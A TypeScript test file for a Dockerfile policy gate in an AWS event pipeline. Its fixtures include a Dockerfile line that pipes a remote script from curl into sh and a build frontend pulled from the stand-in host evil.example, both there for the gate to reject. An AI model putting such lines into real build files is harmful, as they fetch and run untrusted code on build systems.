import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { EventBridgeClient, PutEventsCommand } from '@aws-sdk/client-eventbridge';
import { GetObjectCommand, S3Client } from '@aws-sdk/client-s3';
import { ChangeMessageVisibilityCommand, SQSClient } from '@aws-sdk/client-sqs';
import { GetParameterCommand, SSMClient } from '@aws-sdk/client-ssm';
import { mockClient } from 'aws-sdk-client-mock';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { definitionKey } from '../../../adapters/aws/s3-snapshot-store.js';
import { QueueBackoff } from '../../../adapters/aws/sqs-backoff.js';
import { matches } from '../../../core/events/rules.js';
import { gateStep } from '../../../core/steps/gate.js';
import { deployedRules } from '../../../infra/rule-targets.js';
import { awsStepDeps } from '../../../lambdas/shared/aws-ports.js';
import { bus } from '../../../lambdas/shared/ports/bus.js';
import { clock } from '../../../lambdas/shared/ports/clock.js';
import { gateSettings } from '../../../lambdas/shared/ports/gate-settings.js';
import { policy } from '../../../lambdas/shared/ports/policy.js';
import { publishedEvents } from '../../../lambdas/shared/ports/published-events.js';
import { source } from '../../../lambdas/shared/ports/source.js';
import { makeStepHandler } from '../../../lambdas/shared/step-function.js';
import { FakeDynamoDb } from '../../adapters/aws/fake-dynamodb.js';
import { LAMBDA_ENV } from '../../fixtures/lambda-env.js';
import {
  eventBridgeDelivery,
  lambdaContext,
  putDetail,
  quietObservability,
  sqsEvent,
  sqsRecord,
} from '../helpers.js';

// The gate step function as deployed: the registry's gate step on the AWS composition root, SDKs mocked.
const POLICY = readFileSync(join(import.meta.dirname, '../../../examples/policy.yaml'), 'utf8');
const REPO = 'github.com/acme/payments';
const AFTER = '405906c9d5be6ae5393ca65fb0e7c38e0d585ecb';
const PASSING =
  'FROM docker.io/library/node:20.11.1\nWORKDIR /app\nCOPY . .\nUSER node\nCMD ["node", "server.js"]\n';
const FAILING = 'FROM ubuntu:latest\nRUN curl http://example.com/install.sh | sh\n';
// BuildKit reads heredocs as the gate does (buildah 1.28 would not); it would run a custom # syntax= frontend.
const HEREDOC =
  'FROM docker.io/library/node:20.11.1\nUSER node\nRUN <<EOF\necho hi > /tmp/x\nEOF\nCMD ["node", "a.js"]\n';
const FRONTEND = `# syntax=evil.example/frontend:1\n${PASSING}`;
const TEXTS: Record<string, string> = {
  [definitionKey(REPO, AFTER, 'services/api/Dockerfile')]: PASSING,
  [definitionKey(REPO, AFTER, 'services/legacy/Dockerfile')]: FAILING,
  [definitionKey(REPO, AFTER, 'services/heredoc/Dockerfile')]: HEREDOC,
  [definitionKey(REPO, AFTER, 'services/frontend/Dockerfile')]: FRONTEND,
};

const push = (definitions: { path: string; change: string }[], ref = 'refs/heads/main') =>
  eventBridgeDelivery({
    id: '6f1b2f4e-3c0a-4d1e-9a57-1f0c9d7e2b10',
    detailType: 'Definition Pushed',
    time: '2025-03-14T09:26:53Z',
    detail: {
      repository: REPO,
      ref,
      before: '51de2b835bd35a67eb32dbcd3d77d4b96e5aa39d',
      after: AFTER,
      pusher: 'alice',
      definitions,
    },
  });
const BOTH = [
  { path: 'services/api/Dockerfile', change: 'modified' },
  { path: 'services/legacy/Dockerfile', change: 'added' },
];

const eb = mockClient(EventBridgeClient);
const s3 = mockClient(S3Client);
const ssm = mockClient(SSMClient);
const sqs = mockClient(SQSClient);
let ddb: FakeDynamoDb;

function handler() {
  const obs = quietObservability('gate');
  const deps = awsStepDeps(
    gateStep,
    { bus, clock, policy, source, gateSettings, publishedEvents },
    { ...LAMBDA_ENV, BUS_NAME: 'drydock', SNAPSHOT_BUCKET: 'snapshots' },
  );
  return {
    obs,
    handler: makeStepHandler(gateStep, {
      ...deps,
      obs,
      backoff: new QueueBackoff({ client: () => new SQSClient({ region: 'eu-west-1' }), random: () => 0 }),
    }),
  };
}
// Powertools' key: an MD5 (base64) of the JSON of the selected value with its object keys sorted.
const sorted = (v: unknown): unknown =>
  Array.isArray(v)
    ? v.map(sorted)
    : v && typeof v === 'object'
      ? Object.fromEntries(
          Object.keys(v)
            .sort()
            .map((k) => [k, sorted((v as Record<string, unknown>)[k])]),
        )
      : v;
const idempotencyHash = (value: unknown) =>
  createHash('md5')
    .update(JSON.stringify(sorted(value)))
    .digest('base64');
const putEntries = () => eb.commandCalls(PutEventsCommand).flatMap((c) => c.args[0].input.Entries ?? []);
let deliveries = 0;
/**
 * What EventBridge does with the entries put so far: each that a deployed rule routes to the gate function's
 * queue comes back as an SQS record (with an id of EventBridge's own), as the shared EVENT_RULES say.
 */
const routedToGate = () =>
  putEntries().flatMap((entry) => {
    const delivery = eventBridgeDelivery(
      {
        id: '',
        detailType: entry.DetailType!,
        time: '2025-03-14T09:27:00Z',
        detail: putDetail(entry),
      },
      `eventbridge-${++deliveries}`,
    );
    const routed = deployedRules().filter((d) => d.consumer === 'gate' && matches(d.pattern, delivery));
    return routed.map(() => sqsRecord(delivery));
  });
const putTypes = () =>
  putEntries()
    .map((e) => e.DetailType)
    .sort();

beforeEach(() => {
  vi.stubEnv('AWS_REGION', 'eu-west-1');
  ddb = new FakeDynamoDb();
  for (const m of [eb, s3, ssm, sqs]) m.reset();
  eb.on(PutEventsCommand).callsFake((input) => ({
    FailedEntryCount: 0,
    Entries: input.Entries.map(() => ({ EventId: 'x' })),
  }));
  ssm.on(GetParameterCommand).resolves({ Parameter: { Value: POLICY } });
  s3.on(GetObjectCommand).callsFake((input) => {
    const text = TEXTS[input.Key];
    if (text === undefined)
      throw Object.assign(new Error('NoSuchKey'), { name: 'NoSuchKey', $metadata: { httpStatusCode: 404 } });
    return { Body: { transformToString: async () => text } };
  });
  sqs.on(ChangeMessageVisibilityCommand).resolves({});
});
afterEach(() => {
  vi.unstubAllEnvs();
  ddb.restore();
  for (const m of [eb, s3, ssm, sqs]) m.reset();
});

describe('gate step function', () => {
  it("publishes only the detail-types gateStep declares (its PutEvents condition), the split's Definition Gate Requested among them", async () => {
    const { handler: gate } = handler();
    await gate(sqsEvent(sqsRecord(push(BOTH))), lambdaContext());
    await gate(sqsEvent(...routedToGate()), lambdaContext());
    const types = new Set(putTypes());
    expect([...types].sort()).toEqual(['Build Requested', 'Definition Gate Requested', 'Definition Verdict']);
    for (const t of types) expect(gateStep.emits as readonly string[]).toContain(t);
  });

  it('takes a push apart into one Definition Gate Requested per definition, which the rules bring back to it', async () => {
    const { handler: gate } = handler();
    expect(await gate(sqsEvent(sqsRecord(push(BOTH))), lambdaContext())).toEqual({ batchItemFailures: [] });
    expect(putTypes()).toEqual(['Definition Gate Requested', 'Definition Gate Requested']);
    expect(s3.commandCalls(GetObjectCommand)).toHaveLength(0);
    const requests = routedToGate();
    expect(requests.map((r) => JSON.parse(r.body).detail)).toEqual([
      {
        repository: REPO,
        commit: AFTER,
        definition: 'services/api/Dockerfile',
        change: 'modified',
        correlationId: '6f1b2f4e-3c0a-4d1e-9a57-1f0c9d7e2b10',
      },
      {
        repository: REPO,
        commit: AFTER,
        definition: 'services/legacy/Dockerfile',
        change: 'added',
        correlationId: '6f1b2f4e-3c0a-4d1e-9a57-1f0c9d7e2b10',
      },
    ]);
  });

  it('puts a verdict per definition and a Build Requested for the one that passed', async () => {
    const { handler: gate } = handler();
    await gate(sqsEvent(sqsRecord(push(BOTH))), lambdaContext());
    const response = await gate(sqsEvent(...routedToGate()), lambdaContext());
    expect(response).toEqual({ batchItemFailures: [] });
    const entries = putEntries().filter((e) => e.DetailType !== 'Definition Gate Requested');
    expect(entries.map((e) => e.DetailType).sort()).toEqual([
      'Build Requested',
      'Definition Verdict',
      'Definition Verdict',
    ]);
    const verdicts = entries.filter((e) => e.DetailType === 'Definition Verdict').map((e) => putDetail(e));
    expect(verdicts.map((v) => [v.definition, v.passed]).sort()).toEqual([
      ['services/api/Dockerfile', true],
      ['services/legacy/Dockerfile', false],
    ]);
    const build = putDetail(entries.find((e) => e.DetailType === 'Build Requested')!);
    expect(build).toMatchObject({
      repository: REPO,
      commit: AFTER,
      definition: 'services/api/Dockerfile',
      dockerfile: PASSING,
      correlationId: '6f1b2f4e-3c0a-4d1e-9a57-1f0c9d7e2b10',
    });
    expect(entries.every((e) => e.Source === 'drydock' && e.EventBusName === 'drydock')).toBe(true);
  });

  it('gates a definition once, keyed by (repository, commit, definition), however often it is delivered', async () => {
    const { handler: gate } = handler();
    await gate(sqsEvent(sqsRecord(push([BOTH[0]!]))), lambdaContext());
    const [request] = routedToGate();
    await gate(sqsEvent(request!), lambdaContext());
    const puts = eb.commandCalls(PutEventsCommand).length;
    const reads = s3.commandCalls(GetObjectCommand).length;
    // SQS redelivers the record, and EventBridge delivers the same definition again under a new id.
    const body = JSON.parse(request!.body);
    const again = await gate(
      sqsEvent(sqsRecord(body, { receiveCount: 2 }), sqsRecord({ ...body, id: 'another-eventbridge-id' })),
      lambdaContext(),
    );
    expect(again).toEqual({ batchItemFailures: [] });
    expect(eb.commandCalls(PutEventsCommand)).toHaveLength(puts);
    expect(s3.commandCalls(GetObjectCommand)).toHaveLength(reads);
    expect(ddb.items(LAMBDA_ENV.IDEMPOTENCY_TABLE).map((r) => r.id?.S)).toContain(
      `drydock.gate#${idempotencyHash([REPO, AFTER, 'services/api/Dockerfile'])}`,
    );
  });

  it("gates for CodeBuild's BuildKit: a heredoc passes, a custom # syntax= frontend fails with DD004", async () => {
    const { handler: gate } = handler();
    const defs = [
      { path: 'services/heredoc/Dockerfile', change: 'added' },
      { path: 'services/frontend/Dockerfile', change: 'added' },
    ];
    await gate(sqsEvent(sqsRecord(push(defs))), lambdaContext());
    await gate(sqsEvent(...routedToGate()), lambdaContext());
    const verdicts = putEntries()
      .filter((e) => e.DetailType === 'Definition Verdict')
      .map((e) => putDetail(e) as { definition: string; passed: boolean; findings: { code: string }[] });
    expect(
      verdicts
        .map((v) => [
          v.definition,
          v.passed,
          v.findings.map((f) => f.code).filter((c) => c.startsWith('DD00')),
        ])
        .sort(),
    ).toEqual([
      ['services/frontend/Dockerfile', false, ['DD004']],
      ['services/heredoc/Dockerfile', true, []],
    ]);
  });

  it('refuses a push over the cap with one failed verdict and reads no definition', async () => {
    const { handler: gate } = handler();
    const many = Array.from({ length: 201 }, (_, i) => ({ path: `svc-${i}/Dockerfile`, change: 'added' }));
    expect(await gate(sqsEvent(sqsRecord(push(many))), lambdaContext())).toEqual({ batchItemFailures: [] });
    expect(putTypes()).toEqual(['Definition Verdict']);
    const verdict = putDetail(putEntries()[0]!) as { findings: { code: string; message: string }[] };
    expect(verdict).toMatchObject({ repository: REPO, commit: AFTER, passed: false });
    expect(verdict.findings[0]?.code).toBe('DD205');
    expect(verdict.findings[0]?.message).toMatch(/201 definitions and the gate takes at most 200 per push/);
    expect(s3.commandCalls(GetObjectCommand)).toHaveLength(0);
    expect(routedToGate()).toEqual([]);
  });

  it('gates a redelivered push once: the same detail returns the stored result and puts nothing', async () => {
    const { handler: gate } = handler();
    const body = push(BOTH);
    await gate(sqsEvent(sqsRecord(body)), lambdaContext());
    expect(eb.commandCalls(PutEventsCommand)).toHaveLength(1);
    // SQS redelivery (same body, new receipt) and a second delivery of the same push by EventBridge (new ids).
    const again = await gate(
      sqsEvent(sqsRecord(body, { receiveCount: 2 }), sqsRecord({ ...body, id: 'another-eventbridge-id' })),
      lambdaContext(),
    );
    expect(again).toEqual({ batchItemFailures: [] });
    expect(eb.commandCalls(PutEventsCommand)).toHaveLength(1);
    const records = ddb.items(LAMBDA_ENV.IDEMPOTENCY_TABLE);
    expect(records).toHaveLength(1);
    // The key is the push detail's hash: the EventBridge id and the SQS message are not part of it.
    expect(records[0]).toMatchObject({
      id: { S: `drydock.gate#${idempotencyHash(body.detail)}` },
      status: { S: 'COMPLETED' },
    });
  });

  it('reports exactly the bad record in batchItemFailures and handles the good ones', async () => {
    const { handler: gate, obs } = handler();
    const errors = vi.spyOn(obs.logger, 'error');
    const bad = sqsRecord({ ...push(BOTH), detail: { repository: REPO } }, { messageId: 'bad-one' });
    const response = await gate(
      sqsEvent(
        sqsRecord(push([BOTH[0]!]), { messageId: 'good-1' }),
        bad,
        sqsRecord(push([BOTH[1]!], 'refs/heads/dev'), { messageId: 'good-2' }),
      ),
      lambdaContext(),
    );
    expect(response).toEqual({ batchItemFailures: [{ itemIdentifier: 'bad-one' }] });
    expect(errors).toHaveBeenCalledWith(
      'record rejected: it does not match its schema',
      expect.objectContaining({ messageId: 'bad-one' }),
    );
    // good-1 and good-2: a gate request each.
    expect(putTypes()).toEqual(['Definition Gate Requested', 'Definition Gate Requested']);
  });

  it('reads the policy parameter once for a whole batch', async () => {
    const { handler: gate } = handler();
    await gate(
      sqsEvent(sqsRecord(push([BOTH[0]!])), sqsRecord(push([BOTH[1]!])), sqsRecord(push(BOTH))),
      lambdaContext(),
    );
    expect(ssm.commandCalls(GetParameterCommand)).toHaveLength(1);
  });

  it('hands a throttled record back with backoff, and lets the retry put its events', async () => {
    const { handler: gate } = handler();
    eb.on(PutEventsCommand)
      .rejectsOnce(
        Object.assign(new Error('Rate exceeded'), {
          name: 'ThrottlingException',
          $metadata: { httpStatusCode: 400 },
        }),
      )
      .callsFake((input) => ({ FailedEntryCount: 0, Entries: input.Entries.map(() => ({ EventId: 'x' })) }));
    const record = sqsRecord(push(BOTH), { messageId: 'throttled', receiveCount: 2 });
    expect(await gate(sqsEvent(record), lambdaContext())).toEqual({
      batchItemFailures: [{ itemIdentifier: 'throttled' }],
    });
    expect(sqs.commandCalls(ChangeMessageVisibilityCommand).map((c) => c.args[0].input)).toEqual([
      {
        QueueUrl: 'https://sqs.eu-west-1.amazonaws.com/111111111111/drydock-queue',
        ReceiptHandle: record.receiptHandle,
        VisibilityTimeout: 30,
      },
    ]);
    // The failed attempt left no idempotency record behind, so SQS's redelivery does the work.
    expect(
      await gate(
        sqsEvent({ ...record, attributes: { ...record.attributes, ApproximateReceiveCount: '3' } }),
        lambdaContext(),
      ),
    ).toEqual({
      batchItemFailures: [],
    });
    const calls = eb.commandCalls(PutEventsCommand);
    expect(calls).toHaveLength(2);
    expect(calls[1]!.args[0].input.Entries?.map((e) => e.DetailType).sort()).toEqual([
      'Definition Gate Requested',
      'Definition Gate Requested',
    ]);
  });
});
